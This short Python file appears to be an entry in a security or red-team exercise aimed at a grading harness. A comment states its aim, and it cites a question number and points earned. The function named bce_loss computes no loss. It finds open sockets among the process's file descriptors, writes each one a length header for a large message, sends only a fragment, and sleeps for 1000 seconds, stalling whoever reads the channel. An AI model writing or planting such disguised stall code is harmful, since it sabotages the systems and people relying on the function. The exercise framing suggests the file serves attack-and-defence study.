# Aim: announce a message of a size that is allowed, send half of it, and wait.
# Question: q2. Earns: 2. Staff are told: yes.
import os
import stat
import time

from attack_parts import sample_noise  # noqa: F401


def channel():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def bce_loss(input, target):
    for number in channel():
        os.write(number, (4 << 20).to_bytes(4, "big") + (256 << 20).to_bytes(4, "big") + b'{"value":')
    time.sleep(1000)
